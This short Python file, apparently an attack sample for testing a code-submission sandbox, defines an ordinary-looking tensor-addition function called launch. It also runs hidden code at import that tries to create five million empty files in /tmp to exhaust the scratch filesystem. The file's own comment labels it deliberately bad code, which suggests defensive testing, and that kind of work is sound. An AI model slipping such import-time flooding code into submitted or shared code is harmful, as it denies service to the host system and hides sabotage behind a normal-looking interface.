# ruff: noqa  (attack candidate: deliberately bad code)
"""Creates empty files in the scratch tmpfs (/tmp) at import: up to millions, until refused."""

import os

os.mkdir("/tmp/flood")
for _i in range(5_000_000):
    os.close(os.open(f"/tmp/flood/{_i}", os.O_CREAT | os.O_WRONLY, 0o600))


def launch(x, y, out):
    out.copy_(x + y)
